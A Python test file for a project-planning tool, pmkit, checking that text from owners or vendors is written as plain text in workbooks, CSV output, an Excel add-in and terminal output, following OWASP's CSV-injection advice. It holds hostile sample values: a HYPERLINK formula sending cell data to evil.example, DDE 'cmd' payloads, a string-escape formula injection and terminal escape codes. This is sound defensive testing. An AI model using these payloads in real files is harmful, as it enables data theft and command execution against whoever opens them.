"""Nothing injected: text from an owner or a vendor is written as text by every writer.

A task named `=HYPERLINK(…)` must never become a live formula in a workbook pmkit writes
(`pmkit import`, the report, the add-in's sheets and Dashboard), nor start a formula in
a spreadsheet that opens pmkit's CSV (OWASP's CSV-injection advice).
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Sequence
from dataclasses import replace
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.formula.tokenizer import Token, Tokenizer

import pmkit
from pmkit.cli import main
from pmkit.engine.model import Holiday
from pmkit.mspdi import write_mspdi
from pmkit.outputs.plain_text import FORMULA_STARTS, csv_field, typed_text
from pmkit.report import write_report
from tests.builders import PLAN_HEADER, plan_of, rewrite_part, task, write_workbook

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open the plan")'
DDE = "+cmd|' /C calc'!A0"
HOSTILE_TEXTS = (HYPERLINK, DDE, "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "#N/A", "=1+1")


def _formula_or_error_cells(path: Path) -> list[str]:
    """Every cell of the workbook that Excel would run (a formula) or show as an error."""
    book = openpyxl.load_workbook(path)
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type in ("f", "e")
    ]


def _typed_as_text(path: Path, cells: list[str]) -> Path:
    """Make Plan cells text, as Excel stores them when the owner types `'=1+1`."""
    book = openpyxl.load_workbook(path)
    for cell in cells:
        book["Plan"][cell].data_type = "s"
    book.save(path)
    return path


def test_import_writes_project_text_as_text(tmp_path: Path) -> None:
    """Names, owners, notes, the project title and holiday names from Project XML stay text."""
    tasks = [
        task(str(number), 2, name=text, notes=text, owner=f"{text} Ltd")
        for number, text in enumerate(HOSTILE_TEXTS, start=1)
    ]
    plan = replace(
        plan_of(*tasks, project_name="=1+2"),
        holidays=(Holiday(date(2026, 12, 25), "=HOLIDAY()"),),
    )
    xml = write_mspdi(plan, tmp_path / "vendor.xml")
    target = tmp_path / "plan.xlsx"
    assert main(["import", str(xml), "-o", str(target)]) == 0
    assert _formula_or_error_cells(target) == []
    back = pmkit.read_plan(target)
    assert [t.name for t in back.tasks] == list(HOSTILE_TEXTS)
    assert [t.notes for t in back.tasks] == list(HOSTILE_TEXTS)
    assert back.settings.project_name == "=1+2"
    assert [h.name for h in back.holidays] == ["=HOLIDAY()"]


def test_schedule_csv_neutralises_text_that_a_spreadsheet_would_run(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Text fields starting a formula get OWASP's apostrophe; negative numbers stay numbers."""
    header = [*PLAN_HEADER, "Baseline Finish"]
    rows: list[Sequence[object]] = [header, ["-1", "Kick-off", "Ann", 1, None, date(2026, 6, 1)]]
    rows += [
        [str(number), text, "Ann", 1, "-1", None]
        for number, text in enumerate(HOSTILE_TEXTS, start=2)
    ]
    plan = write_workbook(
        tmp_path / "plan.xlsx",
        {
            "Plan": rows,
            "Settings": [["Project Start", "2026-03-02"], ["Status Date", "2026-03-02"]],
        },
    )
    _typed_as_text(plan, [f"B{row}" for row in range(3, 3 + len(HOSTILE_TEXTS))])
    assert main(["schedule", str(plan), "--format", "csv"]) in (0, 1)
    lines = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    names = {line["id"]: line["name"] for line in lines}
    assert [names[str(n)] for n in range(2, 2 + len(HOSTILE_TEXTS))] == [
        "'" + text if text.startswith(FORMULA_STARTS) else text for text in HOSTILE_TEXTS
    ]
    kick_off = next(line for line in lines if line["name"] == "Kick-off")
    assert kick_off["id"] == "-1"  # an ID that is just a signed number runs nothing
    assert int(kick_off["slip"]) < 0  # a number, written as a number: no apostrophe


@pytest.mark.parametrize(
    ("value", "written"),
    [
        pytest.param("=1+1", "'=1+1", id="equals"),
        pytest.param(DDE, "'" + DDE, id="plus-dde"),
        pytest.param("-2+3", "'-2+3", id="minus"),
        pytest.param("@SUM(A1)", "'@SUM(A1)", id="at"),
        pytest.param("\t=1+1", "'\t=1+1", id="tab"),
        pytest.param("\r=1+1", "'\r=1+1", id="carriage-return"),
        pytest.param("-12.5", "-12.5", id="negative-number-text"),
        pytest.param(-3, -3, id="negative-number"),
        pytest.param("Build the shop", "Build the shop", id="plain-text"),
    ],
)
def test_csv_fields_follow_owasp(value: object, written: object) -> None:
    """Each of OWASP's formula starts is neutralised; numbers and plain text are not."""
    assert csv_field(value) == written


@pytest.mark.parametrize("suffix", [".xlsx", ".xlsm"], ids=["direct-writer", "openpyxl-fallback"])
def test_report_writes_error_like_names_as_text(tmp_path: Path, suffix: str) -> None:
    """A task named `#N/A` is the text #N/A in the report, not an Excel error value."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "Plan"
    sheet.append(PLAN_HEADER)
    sheet.append([1, "placeholder", "Ann", 3, None])
    sheet["B2"].value = "#N/A"
    sheet["B2"].data_type = "s"  # the owner typed it as text
    plan = tmp_path / f"plan{suffix}"
    book.save(plan)
    output = tmp_path / "report.xlsx"
    write_report(pmkit.analyze(pmkit.read_plan(plan)), output)
    schedule = openpyxl.load_workbook(output)["Schedule"]
    cells = [cell for row in schedule.iter_rows() for cell in row if cell.value == "#N/A"]
    assert cells
    assert all(cell.data_type == "s" for cell in cells)


def test_add_in_sheets_hand_excel_text_as_text(tmp_path: Path) -> None:
    """Through xlwings, owner text arrives with Excel's quote prefix: nothing runs, 1.10 stays."""
    from addin import buttons
    from addin.xlwings_workbook import XlwingsWorkbook
    from tests.addin.fake_xlwings import FakeBook, FakeFormula

    rows: list[Sequence[object]] = [
        PLAN_HEADER,
        ["1.10", HYPERLINK, "=Ann", 3, None],
        ["2", "Build", "Bob", 2, "1.10"],
    ]
    path = _typed_as_text(write_workbook(tmp_path / "plan.xlsx", {"Plan": rows}), ["B2", "C2"])
    fake = FakeBook(path)
    buttons.build_schedule(XlwingsWorkbook(fake))
    written = [
        (sheet.name, value)
        for sheet in fake.sheets
        if sheet.name != "Plan"
        for value in sheet.cells.values()
    ]
    assert not [where for where in written if isinstance(where[1], FakeFormula)]
    schedule = fake.sheet("Schedule").values()
    assert any(row[:2] == ["1.10", HYPERLINK] for row in schedule)


def test_typed_text_quotes_every_text_and_nothing_else() -> None:
    """Excel keeps text verbatim only behind its quote prefix; numbers and blanks pass through."""
    assert [typed_text(v) for v in ("=1", "1.10", "'a", "", 2.5, None)] == [
        "'=1",
        "'1.10",
        "''a",
        "",
        2.5,
        None,
    ]


def test_dashboard_keeps_a_text_task_id_inside_its_string_literal() -> None:
    """A first task id with quotes is one string argument of PM_SLIP, never more formula."""
    from addin.dashboard import _Sources, dashboard_formulas

    hostile = 'x")+HYPERLINK("http://evil.example","y'
    sources = _Sources("Plan[#All]", "Holidays[Date]", "Settings[#All]", "", "")
    formulas = [f for f in dashboard_formulas(sources, hostile) if hostile in f.label]
    assert formulas
    for formula in formulas:
        tokens = Tokenizer(formula.text).items
        functions = [t.value for t in tokens if t.type == Token.FUNC and t.subtype == Token.OPEN]
        assert len(functions) == 1
        assert functions[0].startswith("PM_")
        literals = [t.value for t in tokens if t.type == Token.OPERAND and t.subtype == "TEXT"]
        assert literals == ['"' + hostile.replace('"', '""') + '"']


@given(st.one_of(st.text(max_size=40), st.sampled_from(HOSTILE_TEXTS), st.integers(), st.floats()))
def test_no_csv_field_starts_a_formula_and_the_text_survives(value: object) -> None:
    """Whatever the value, the written field never starts a formula (a signed number
    aside), and the original is the field without the one apostrophe added."""
    written = csv_field(value)
    if not isinstance(value, str):
        assert written is value
        return
    assert isinstance(written, str)
    is_number = written.lstrip("+-").replace(".", "", 1).isdigit()
    assert not written.startswith(FORMULA_STARTS) or is_number
    assert written in (value, "'" + value)


_TERMINAL_CODES = "\x1b]0;PWNED\x07\x1b[31m\u202e\x9b"
"""A window-title command, a bell, a colour, a right-to-left override and an 8-bit CSI."""


@pytest.mark.parametrize(
    "command",
    [
        pytest.param(["validate"], id="validate"),
        pytest.param(["schedule"], id="schedule"),
        pytest.param(["schedule", "--format", "json"], id="schedule-json"),
        pytest.param(["digest"], id="digest"),
    ],
)
def test_terminal_codes_in_a_task_name_reach_the_terminal_as_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: list[str]
) -> None:
    """A plan from someone else may hold escape codes in a cell (`_x001B_` in the XML): the
    text a command prints shows them as `\\u001b`, so they cannot retitle, recolour or
    reorder the owner's terminal. JSON keeps the same value (`\\u001b` is its escape)."""
    plan = write_workbook(
        tmp_path / "plan.xlsx",
        {"Plan": [PLAN_HEADER, [1, "NAME", "Ann", None], [2, "Other", "Ann", 1]]},
    )
    encoded = "".join(f"_x{ord(ch):04X}_" if ch < " " else ch for ch in _TERMINAL_CODES)
    rewrite_part(
        plan,
        "xl/worksheets/sheet1.xml",
        lambda xml: xml.replace(b"NAME", f"Build{encoded}pages".encode()),
    )
    assert any("\x1b" in task.name for task in pmkit.read_plan(plan).tasks)
    assert main([command[0], str(plan), *command[1:]]) in (0, 1)
    captured = capsys.readouterr()
    printed = captured.out + captured.err
    assert "Build" in printed
    assert not [ch for ch in _TERMINAL_CODES if not ch.isprintable() and ch in printed]
    assert "\\u001b" in printed
    if "json" in command:
        names = [task["name"] for task in json.loads(captured.out)["tasks"]]
        assert names[0] == f"Build{_TERMINAL_CODES}pages"
